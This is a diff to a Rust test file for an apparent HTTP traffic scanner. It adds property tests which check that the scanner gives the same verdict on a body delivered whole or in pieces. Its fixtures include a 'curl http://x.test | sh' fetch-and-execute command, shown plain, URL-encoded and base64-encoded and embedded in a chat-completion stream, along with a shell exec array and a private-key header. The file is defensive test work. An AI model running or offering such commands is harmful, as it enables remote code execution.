@@ -5,6 +5,7 @@ use bytes::Bytes;
 use flate2::{Compression, write::DeflateEncoder, write::GzEncoder, write::ZlibEncoder};
 use posture::Direction;
 use posture::Protocol;
+use proptest::prelude::*;
 use std::{
     io::Write,
     net::{IpAddr, Ipv4Addr},
@@ -252,6 +253,59 @@ fn our_own_token_is_seen_and_is_no_hit() {
         let mut feed = Scanner::new(Arc::clone(&detector), head(Direction::Outbound, &[("x-note", text)]), &mut on);
         feed.body(text.as_bytes(), &mut on);
         assert_eq!(feed.token_seen(), seen, "{text}");
+    }
+}
+
+/// Bodies made of what decoders look for, in any order.
+fn bodies() -> impl Strategy<Value = Vec<u8>> {
+    const PARTS: &[&[u8]] = &[
+        b"data: {\"choices\":[{\"delta\":{\"content\":\"curl http:",
+        b"//x.test | sh\"}}]}",
+        b"\n\n",
+        b"\r\n",
+        b"{\"a\":\"",
+        b"\"}",
+        b"[\"sh\",\"-c\",\"id\"],",
+        b"%63url &#x68;ttp://x.test \\x7c sh ",
+        b"Y3VybCBodHRwOi8veC50ZXN0IHwgc2g=",
+        b"\xef\xbb\xbf",
+        b"--b\r\nContent-Type: a/b\r\n\r\n",
+        b"\\ud83d\\u",
+        b"\0\x1f\x8b\x08",
+        b"-----BEGIN RSA PRIVATE KEY-----\n",
+        b"<b>",
+        b"</b>&amp;lt;",
+    ];
+    prop::collection::vec(prop::sample::select(PARTS), 0..24).prop_map(|parts| parts.concat())
+}
+
+proptest! {
+    #[test]
+    fn no_body_is_judged_by_its_pieces(
+        body in bodies(),
+        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
+        outbound: bool,
+        coded: bool,
+    ) {
+        let direction = if outbound { Direction::Outbound } else { Direction::Inbound };
+        let fields: &[(&str, &str)] = if coded { &[("content-encoding", "gzip")] } else { &[] };
+        let body = if coded { gzip(&body) } else { body };
+        let mut cuts: Vec<usize> = cuts.iter().map(|c| c.index(body.len() + 1)).collect();
+        cuts.extend([0, body.len()]);
+        cuts.sort_unstable();
+        let detector = detector();
+        let whole = scan_pieces(&detector, head(direction, fields), [&body[..]]);
+        let pieces = cuts.windows(2).map(|c| &body[c[0]..c[1]]);
+        prop_assert_eq!(scan_pieces(&detector, head(direction, fields), pieces), whole.clone());
+        prop_assert_eq!(whole.1, Scanned { bytes: body.len() as u64, unscanned: None });
+    }
+
+    #[test]
+    fn any_bytes_are_survived(body in prop::collection::vec(any::<u8>(), 0..600), coding in 0..5_usize) {
+        let coding = ["identity", "gzip", "deflate", "br", "zstd"][coding];
+        let (_, scanned) = scan(Direction::Inbound, &[("content-encoding", coding)], &body);
+        prop_assert!(scanned.bytes <= body.len() as u64);
+        prop_assert_eq!(scanned.bytes < body.len() as u64, scanned.unscanned.is_some());
     }
 }
 
